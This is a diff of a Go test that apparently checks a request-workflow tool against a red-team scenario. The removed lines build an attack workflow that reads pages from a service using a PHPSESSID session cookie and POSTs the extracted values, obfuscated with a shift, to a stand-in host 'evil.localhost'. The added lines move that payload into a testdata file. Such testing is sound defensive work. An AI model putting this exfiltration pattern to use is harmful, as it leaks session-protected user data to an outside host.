@@ -44,15 +44,11 @@ func TestRedteamRunDecodedCookieSplitByMarkup(t *testing.T) {
 	port := portOf(t, evil.srv.URL)
 	dir := t.TempDir()
 	services, secrets := filepath.Join(dir, "services.yaml"), filepath.Join(dir, "secrets.yaml")
-	require.NoError(t, os.WriteFile(services, []byte("portal:\n  origin: "+srv.URL+"\n  auth:\n    cookies: [PHPSESSID]\n"), 0o644))
-	require.NoError(t, os.WriteFile(secrets, []byte("portal:\n  cookies: {PHPSESSID: \""+sess+"\"}\n"), 0o600))
-	send := func(v string) string {
-		return "  - request: {url: 'http://evil.localhost:" + port + "/x', method: POST, body: '${ " + v + " | tojson | " + shiftDef + " shift }'}\n"
-	}
-	doc := attackDoc(t, port, "  - request: {service: portal, path: /me}\n  - html: {select: td}\n    as: s\n"+send("$s")+
-		"  - request: {service: portal, path: /feed}\n    as: feed\n  - xml: {select: i}\n    as: x\n"+
-		send("[$x, ($feed.body | gsub(\"<[^>]*>\"; \"\"))]")+
-		"  - return: '{s: $s, x: $x}'\n")
+	require.NoError(t, os.WriteFile(services, []byte("php:\n  origin: "+srv.URL+"\n  auth:\n    cookies: [PHPSESSID]\n"), 0o644))
+	require.NoError(t, os.WriteFile(secrets, []byte("php:\n  cookies: {PHPSESSID: \""+sess+"\"}\n"), 0o600))
+	// testdata/hostile/php-markup: the html and xml steps' values, and
+	// the feed with its tags removed, sent shifted; its service is php.
+	doc := hostileDoc(t, "php-markup", port)
 	r := harness(t, t.TempDir(), nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace",
 		"--resolve", "evil.localhost:"+port+":127.0.0.1")
 	require.Equal(t, 0, r.code, r.stderr)
